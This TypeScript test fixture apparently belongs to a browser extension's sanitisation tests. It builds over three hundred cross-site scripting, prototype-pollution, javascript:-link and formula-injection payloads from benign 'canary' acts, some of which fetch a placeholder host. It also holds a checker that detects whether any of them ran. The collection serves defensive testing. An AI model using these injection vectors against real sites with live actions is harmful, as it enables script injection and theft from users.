/** What a payload tries to do: set a mark, ask for an address that nobody else asks for, or change what all objects have. */
const acts = [
  'globalThis.canary=1',
  "new Image().src='https://canary.example/x'",
  "document.title='canary'",
  'Object.prototype.polluted=1',
  "top.postMessage({papergloss:'records'},'*')",
  "import('https://canary.example/x.js')",
];

/** Forms in which text has been taken for markup, address, script or style; `@` is the act. */
const forms = [
  '<script>@</script>',
  '</title><script>@</script>',
  '</textarea></style></noscript><script>@</script>',
  '--><script>@</script><!--',
  ']]><script>@</script>',
  '<img src=x onerror="@">',
  '"><img src=x onerror="@">',
  "' onmouseover='@' x='",
  '" autofocus onfocus="@" x="',
  '<svg onload="@">',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin="@" attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:@"><text y=20>go</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=\'@\'/>#x"></svg>',
  '<svg><foreignObject><body onload="@"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src onerror="@"></style></mglyph></table></mtext></math>',
  '<math href="javascript:@">CLICK</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:@">x</maction></math>',
  '<template><img src=x onerror="@"></template>',
  '<template shadowrootmode="open"><img src=x onerror="@"></template>',
  '<slot name=x onslotchange="@"></slot><b slot=x>x</b>',
  '<style>@import "https://canary.example/x.css";</style>',
  '<b style="background:url(https://canary.example/x)">x</b>',
  '<link rel=stylesheet href="https://canary.example/x.css">',
  '<link rel=prefetch href="https://canary.example/x">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<base href="https://canary.example/">',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<object data="javascript:@"></object>',
  '<embed src="data:text/html,<script>@</script>">',
  '<form action="javascript:@"><button>go</button></form>',
  '<form id=nodeName><input name=attributes><input name=parentNode></form>',
  '<a id=document><a id=document name=body>',
  '<a href="javascript:@">link</a>',
  '[link](javascript:@)',
  '[link](&#106;avascript:@)',
  '[link](java\tscript:@)',
  '[link](data:text/html,<script>@</script>)',
  '[link](vbscript:@)',
  '![image](https://canary.example/x)',
  '![x" onerror="@](x)',
  '<javascript:@>',
  '[x]: javascript:@\n\n[x]',
  '`<img src=x onerror="@">`',
  '```html\n<script>@</script>\n```',
  '$\\href{javascript:@}{x}$',
  '{{ "<script>@</script>" }}{% include "x" %}',
  '${@}',
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  '__proto__',
  '=HYPERLINK("javascript:@")',
];

/** Three hundred texts and more, each of which has done harm where text was taken for something else. */
export const payloads: readonly string[] = forms.flatMap((form) => acts.map((act) => form.replaceAll('@', act)));

/** Evaluated in a page: what has run, and what stands there as markup that could, in words. In a page of others only ours is searched. */
export const whatRan = `(() => {
  const isOurs = /^(chrome|moz)-extension:$/.test(location.protocol);
  const starts = isOurs ? [document] : [...document.querySelectorAll('papergloss-entry, papergloss-layer')];
  const within = (root) => [...root.querySelectorAll('*')].flatMap((element) => [element, ...(element.shadowRoot ? within(element.shadowRoot) : [])]);
  const all = starts.flatMap((start) => [...(start.shadowRoot ? within(start.shadowRoot) : []), ...within(start)]);
  // A link to an address of the web is what such a text may become.
  const isBad = ({ name, value, ownerElement }) => /^on/i.test(name) || name === 'srcdoc' ||
    (/^(?:xlink:)?(?:href|src|data|action|formaction)$/i.test(name) && (/^[\\s\\0-\\x20]*(?:javascript|data:text|vbscript)/i.test(value) || (value.includes('canary') && ownerElement.localName !== 'a')));
  const bad = all.flatMap((element) => [...element.attributes].filter(isBad).map(({ name, value }) => element.localName + ' ' + name + '=' + value));
  const loud = all.filter((element) => /^(?:script|style)$/.test(element.localName) && element.textContent.includes('canary'));
  return [...bad, ...loud.map(({ outerHTML }) => outerHTML),
    ...('canary' in globalThis ? ['the mark is set'] : []),
    ...('polluted' in {} ? ['all objects are changed'] : []),
    ...(document.title === 'canary' ? ['the title is changed'] : [])];
})()`;
